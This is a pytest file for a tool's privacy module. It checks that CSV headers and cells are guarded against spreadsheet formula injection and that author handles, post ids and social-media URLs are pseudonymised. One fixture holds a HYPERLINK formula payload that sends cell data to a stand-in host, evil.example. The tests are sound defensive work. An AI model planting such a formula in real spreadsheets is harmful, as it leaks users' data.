"""Leaks in outputs (issue 11, items 9 and 10).

Pins two rules of :mod:`screening.io.privacy`:

* the formula guard covers the header too: a column NAME starting with ``=``, ``+``, ``-``,
  ``@``, tab, CR or ``'`` is guarded like a cell, so no CSV the tool writes through
  :func:`guard_frame` can carry a live formula anywhere;
* ``--pseudonymize`` replaces every author column, found by a normalised name (``Nama Akun``,
  ``User Name``, ``Screen Name``, ``author_username``, ...), every post/status id column
  (``id``, ``id_str``, ``tweet_id``, ``conversation_id``, ...), and the handle and post id
  inside profile/post URLs of X/Twitter, Instagram, TikTok, Facebook and YouTube with or without
  scheme, ``www.`` or ``mobile.``; with keyed pseudonyms that are stable (the same handle or id
  gives the same pseudonym in every column and file with the same key). Author-like columns it
  leaves alone are reported by :func:`author_like_left` so the summary can warn.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from screening.cli.app import app
from screening.io.privacy import (
    author_like_left,
    guard_cell,
    guard_frame,
    pseudonym,
    pseudonymize,
    unguard_cell,
)
from tests.helpers import run_cli

KEY = b"a-secret-key-of-enough-length"
EVIL_HEADER = '=HYPERLINK("http://evil.example/?d="&A2,"klik")'
STATUS = "1850985128734428200"


def P(value: str) -> str:
    """The pseudonym of ``value`` under the test key."""
    return pseudonym(value, KEY)


# ---- item 9: the header is guarded ---------------------------------------------------------


def test_guard_frame_guards_column_names_reversibly() -> None:
    names = [EVIL_HEADER, "@SUM(1+1)", "+cmd", "-1", "'quoted", "text"]
    frame = pd.DataFrame([["a", "b", "c", "d", "e", "=1+1"]], columns=names)
    guarded = guard_frame(frame)
    assert list(guarded.columns) == [
        "'" + EVIL_HEADER,
        "'@SUM(1+1)",
        "'+cmd",
        "-1",  # a plain number is not a formula
        "''quoted",
        "text",
    ]
    assert [unguard_cell(c) for c in guarded.columns] == names
    assert guarded["text"].tolist() == ["'=1+1"]
    assert list(frame.columns) == names and frame.iloc[0, 5] == "=1+1"  # input untouched


def test_guard_frame_handles_duplicate_and_non_string_column_names() -> None:
    frame = pd.DataFrame([["=a", "=b", 1]], columns=["=x", "=x", 7])
    guarded = guard_frame(frame)
    assert list(guarded.columns) == ["'=x", "'=x", 7]
    assert guarded.iloc[0].tolist() == ["'=a", "'=b", 1]


def test_scored_csv_header_carries_no_formula(small_model: Path, tmp_path: Path) -> None:
    src = tmp_path / "p.csv"
    pd.DataFrame({"text": ["selamat pagi"], EVIL_HEADER: ["x"]}).to_csv(src, index=False)
    out = tmp_path / "o.csv"
    r = CliRunner().invoke(app, ["score", str(src), "-o", str(out), "--model", str(small_model)])
    assert r.exit_code == 0, r.output
    with open(out, newline="", encoding="utf-8-sig") as fh:
        header = next(csv.reader(fh))
    assert "'" + EVIL_HEADER in header and EVIL_HEADER not in header
    assert all(h == guard_cell(h) for h in header if isinstance(h, str) and h[:1] != "'")


# ---- item 10: pseudonymisation covers real export shapes -----------------------------------


def _export() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "Nama Akun": ["budiman77", "lala"],
            "User Name": ["Budiman77", "lala"],
            "Screen Name": ["@budiman77", "LALA"],
            "author_username": ["budiman77", "lala"],
            "userName": ["budiman77", "lala"],
            "id": [STATUS, "2"],
            "id_str": [STATUS, "2"],
            "tweet_id": [STATUS, "2"],
            "conversation_id": [STATUS, "2"],
            "tweet_url": [f"x.com/budiman77/status/{STATUS}", "twitter.com/lala"],
            "link": [
                f"www.twitter.com/budiman77/status/{STATUS}",
                "https://mobile.twitter.com/lala/status/2?s=20",
            ],
            "text": ["lihat x.com/budiman77 ya", "halo"],
            "score": [0.5, 0.1],
            "duplicate_of": ["", "2"],
            "input_line": [2, 3],
        }
    )


def test_author_and_id_columns_found_by_normalised_name() -> None:
    frame = _export()
    out, changed = pseudonymize(frame, KEY)
    for col in ("Nama Akun", "User Name", "Screen Name", "author_username", "userName"):
        assert out[col].tolist() == [P("budiman77"), P("lala")], col
    for col in ("id", "id_str", "tweet_id", "conversation_id"):
        assert out[col].tolist() == [P(STATUS), P("2")], col
    assert set(changed) >= {
        "Nama Akun",
        "User Name",
        "Screen Name",
        "author_username",
        "userName",
        "id",
        "id_str",
        "tweet_id",
        "conversation_id",
        "tweet_url",
        "link",
    }
    # the post text, scores and the tool's own columns are not touched
    assert not set(changed) & {"text", "score", "duplicate_of", "input_line"}
    for col in ("text", "score", "duplicate_of", "input_line"):
        assert out[col].tolist() == frame[col].tolist(), col
    assert frame["Nama Akun"].tolist() == ["budiman77", "lala"]  # input frame untouched


def test_urls_without_scheme_lose_handle_and_status_id_with_stable_pseudonyms() -> None:
    out, _ = pseudonymize(_export(), KEY)
    assert out["tweet_url"].tolist() == [
        f"x.com/{P('budiman77')}/status/{P(STATUS)}",
        f"twitter.com/{P('lala')}",
    ]
    assert out["link"].tolist() == [
        f"www.twitter.com/{P('budiman77')}/status/{P(STATUS)}",
        f"https://mobile.twitter.com/{P('lala')}/status/{P('2')}?s=20",
    ]
    # joins still work: the id column and the status id in the URL give the same pseudonym
    assert out["id_str"][0] in out["tweet_url"][0]
    other, _ = pseudonymize(_export(), b"another-key-of-enough-length")
    assert other["id_str"][0] != out["id_str"][0]  # keyed: another key, other pseudonyms


@pytest.mark.parametrize(
    ("url", "secrets"),
    [
        ("instagram.com/budiman77/", ["budiman77"]),
        ("https://www.instagram.com/p/CxYz123abc/", ["CxYz123abc"]),
        ("instagram.com/reel/Cq9WvKqL1dE", ["Cq9WvKqL1dE"]),
        ("tiktok.com/@budiman77/video/7301234567890123456", ["budiman77", "7301234567890123456"]),
        ("https://vm.tiktok.com/ZSabc123/", ["ZSabc123"]),
        ("facebook.com/budiman77", ["budiman77"]),
        ("https://m.facebook.com/profile.php?id=100012345678901", ["100012345678901"]),
        ("web.facebook.com/budiman77/posts/pfbid0abcXYZ", ["budiman77", "pfbid0abcXYZ"]),
        ("fb.com/budiman77", ["budiman77"]),
        ("youtube.com/@budiman77", ["budiman77"]),
        ("https://www.youtube.com/channel/UCabcdefghijklmnopqrstuv", ["UCabcdefghijklmnopqrstuv"]),
        ("youtube.com/c/BudimanChannel", ["BudimanChannel"]),
        ("m.youtube.com/user/budiman77", ["budiman77"]),
        ("https://x.com/i/web/status/1850985128734428200", ["1850985128734428200"]),
        ("HTTPS://WWW.X.COM/Budiman77/status/5", ["Budiman77"]),
    ],
)
def test_profile_and_post_urls_of_each_platform(url: str, secrets: list[str]) -> None:
    out, changed = pseudonymize(pd.DataFrame({"post_url": [url]}), KEY)
    new = out["post_url"][0]
    assert changed == ["post_url"] and "anon-" in new, new
    for secret in secrets:
        assert secret.casefold() not in new.casefold(), (secret, new)


@pytest.mark.parametrize(
    "url",
    ["https://netflix.com/budiman77", "budi@x.com", "https://example.org/page", "box.com/budi"],
)
def test_other_urls_are_left_alone(url: str) -> None:
    out, changed = pseudonymize(pd.DataFrame({"url": [url]}), KEY)
    assert out["url"][0] == url and changed == []


def test_whole_cell_profile_url_in_any_column_but_never_the_kept_text() -> None:
    frame = pd.DataFrame({"sumber": ["twitter.com/lala"], "isi": ["twitter.com/lala"]})
    out, changed = pseudonymize(frame, KEY, keep=["isi"])
    assert out["sumber"][0] == f"twitter.com/{P('lala')}" and changed == ["sumber"]
    assert out["isi"][0] == "twitter.com/lala"


def test_numeric_and_missing_ids_keep_their_pseudonym_and_their_gaps() -> None:
    frame = pd.DataFrame(
        {
            "id_str": pd.array([int(STATUS), None], dtype="Int64"),
            "user_id": [111.0, float("nan")],
            "username": ["budi", None],
        }
    )
    out, _ = pseudonymize(frame, KEY)
    assert out["id_str"][0] == P(STATUS) and pd.isna(out["id_str"][1])
    assert out["user_id"][0] == P("111") and pd.isna(out["user_id"][1])
    assert out["username"][0] == P("budi") and pd.isna(out["username"][1])


def test_author_like_columns_left_untouched_are_reported() -> None:
    cols = [
        "text",
        "Nama Akun",
        "user_location",
        "author_bio",
        "channel_title",
        "record_id",
        "tweet_url",
        "score",
        "duplicate_of",
        "input_line",
        "category",
        "isi",
    ]
    frame = pd.DataFrame({c: ["x"] for c in cols})
    out, changed = pseudonymize(frame, KEY, keep=["isi"])
    left = author_like_left(frame.columns, keep=["isi"])
    assert left == ["user_location", "author_bio", "channel_title", "record_id"]
    assert not set(left) & set(changed)
    assert out["user_location"][0] == "x"


def test_score_pseudonymize_leaves_no_handle_or_id_in_the_output(
    small_model: Path, tmp_path: Path
) -> None:
    src = tmp_path / "p.csv"
    pd.DataFrame(
        {
            "Nama Akun": ["budiman77", "budiman77", "lala"],
            "id_str": [STATUS, "1850985128734428201", "1850985128734428202"],
            "tweet_url": [
                f"x.com/budiman77/status/{STATUS}",
                "www.twitter.com/budiman77/status/1850985128734428201",
                "twitter.com/lala",
            ],
            "text": ["Ayo coblos nomor 2", "selamat pagi", "hujan deras"],
        }
    ).to_csv(src, index=False)
    out = tmp_path / "o.csv"
    r = run_cli(
        "score",
        str(src),
        "-o",
        str(out),
        "--model",
        str(small_model),
        "--pseudonymize",
        env={"SCREENING_PSEUDONYM_KEY": KEY.decode()},
    )
    assert r.returncode == 0, r.stderr
    written = out.read_text(encoding="utf-8")
    for secret in ("budiman77", "lala", "18509851287344282"):
        assert secret not in written, secret
    df = pd.read_csv(out, dtype=str)
    assert df["Nama Akun"].tolist() == [P("budiman77")] * 2 + [P("lala")]
